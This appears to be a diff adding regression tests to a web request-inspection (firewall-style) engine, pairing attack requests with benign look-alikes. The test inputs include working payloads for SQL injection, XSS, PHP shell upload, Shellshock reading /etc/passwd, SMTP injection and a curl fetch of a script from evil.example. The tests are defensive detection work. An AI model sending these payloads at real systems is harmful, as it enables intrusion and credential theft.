@@ -75,6 +75,105 @@ describe('where the engine looks', () => {
   });
 });
 
+describe('structural fixes (CRS regression analysis, December 2026): an attack class now found, its benign look-alike not', () => {
+  const e = engine();
+  const mp = (disposition: string, content = 'PNG'): InspectInput =>
+    req('/up', { contentType: 'multipart/form-data; boundary=XyZ', body: `--XyZ\r\nContent-Disposition: ${disposition}\r\nContent-Type: image/png\r\n\r\n${content}\r\n--XyZ--\r\n` });
+  const cases: { name: string; attack: InspectInput; rule: string; benign: InspectInput }[] = [
+    {
+      name: 'multipart upload rules read the parsed file name (filename*, escaped quotes), not a regex over the raw heads',
+      attack: mp(`form-data; name="f"; filename*=UTF-8''shell%2Ephp`),
+      rule: 'php.script-upload',
+      benign: mp('form-data; name="f"; filename="holiday.php.png"'),
+    },
+    {
+      name: 'multipart: a "filename=" inside a field value is not a file name',
+      attack: mp('form-data; name="f"; filename="x.jsp"'),
+      rule: 'java.script-upload',
+      benign: mp('form-data; name="comment"', 'see content-disposition: form-data; name="a"; filename="a.php" in the RFC'),
+    },
+    {
+      name: 'SQL-only identifiers are judged even when they look like a token (letters, digits, _)',
+      attack: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'table=information_schema' }),
+      rule: 'sqli.bare',
+      benign: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'sort=table_name&sku=SKU-1000&schema=public' }),
+    },
+    {
+      name: 'a body without Content-Type that is one URL-encoded token: + is a space',
+      attack: req('/p', { body: '%22+union+select+password+from+users%0A' }),
+      rule: 'sqli.double-quote',
+      benign: req('/p', { body: 'c%2B%2B+and+c%23+are+languages' }),
+    },
+    {
+      name: 'an encoded `=` in a form name (`pay%3D…`): what follows is judged as a value',
+      attack: req('/p', { body: 'pay%3D%7C%7C+langCode+%3D%3D+%27' }),
+      rule: 'sqli.number',
+      benign: req('/p', { body: 'equation%3Da%2Bb' }),
+    },
+    {
+      name: 'markup in the path (`/index.php/<svg/onload=…>`) goes to the XSS detector',
+      attack: req('/index.php/%3Csvg/onload=alert(1)%3E'),
+      rule: 'xss.html',
+      benign: req('/api/v1/orders/ord_0123/items'),
+    },
+    {
+      name: 'a TAB inside a URL scheme (`ja&Tab;vascript:`) is dropped as browsers do',
+      attack: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'u=ja%26Tab%3Bvascript%3Ax' }),
+      rule: 'xss.url',
+      benign: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'u=java%09developer%3A+5+years' }),
+    },
+    {
+      name: 'UTF-7 markup survives the lower-casing normaliser',
+      attack: req('/s?id=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-'),
+      rule: 'xss.html',
+      benign: req('/s?q=%2B1-555-0100+or+%2B44+20+7946+0000'),
+    },
+    {
+      name: 'a quoted command name after a separator (`;\'curl\' http://…`)',
+      attack: req('/s?q=x%3B%27curl%27%20http%3A%2F%2Fevil.example%2Fx.sh'),
+      rule: 'rce.unix-command',
+      benign: req('/s?q=he+said+%27curl%27+is+fine%3B+%27cat%27+is+a+pet'),
+    },
+    {
+      name: 'quotes at the start of a command name (`\'wh\'oami`)',
+      attack: req("/s?q='wh'oami"),
+      rule: 'rce.unix-command',
+      benign: req("/s?q=''that's+the+joke''.jpeg"),
+    },
+    {
+      name: 'cmd.exe `if` at the start of a value, with a command after the condition',
+      attack: req('/s?q=IF+EXIST+data.xls+ECHO+found'),
+      rule: 'rce.windows-command',
+      benign: req('/s?q=if+not+defined+by+the+user+we+set+it&a=if+status+%3D%3D+done+we+close+it&b=if+x+%3D%3D+1%3A+print(x)'),
+    },
+    {
+      name: 'a mail command after a leading line break the normaliser trimmed',
+      attack: req('/s?attackme=%0D%0ARCPT%20TO%3A%3Cpostmaster%3E'),
+      rule: 'rce.mail-injection',
+      benign: req('/s?msg=%0D%0AData%20is%20attached%20below'),
+    },
+  ];
+  for (const c of cases) {
+    it(c.name, () => {
+      const a = e.inspect(c.attack);
+      assert.ok(a.blocked && a.findings.some((f) => f.rule === c.rule), `attack: ${fields(a).join(', ')}`);
+      const b = e.inspect(c.benign);
+      assert.deepEqual(fields(b), [], 'benign look-alike');
+    });
+  }
+  it('a clean User-Agent is remembered, a flagged one is judged every time', () => {
+    const m = engine();
+    const ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
+    for (let i = 0; i < 3; i++) assert.deepEqual(fields(m.inspect(req('/', { headers: [['User-Agent', ua]] }))), []);
+    for (let i = 0; i < 3; i++) assert.ok(m.inspect(req('/', { headers: [['User-Agent', '() { :; }; /bin/cat /etc/passwd']] })).blocked);
+  });
+  it('custom rules still run on a remembered User-Agent', () => {
+    const m = engine({ rules: [{ id: 'no-firefox', field: /^header\.user-agent$/, match: (v) => v.indexOf('firefox'), score: 5, block: true }] });
+    const ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
+    for (let i = 0; i < 3; i++) assert.ok(m.inspect(req('/', { headers: [['User-Agent', ua]] })).blocked);
+  });
+});
+
 describe('scoring and paranoia', () => {
   it('warnings add up to the threshold', () => {
     // One private-range URL is a warning (3) at paranoia 1; two reach 6 ≥ 5.
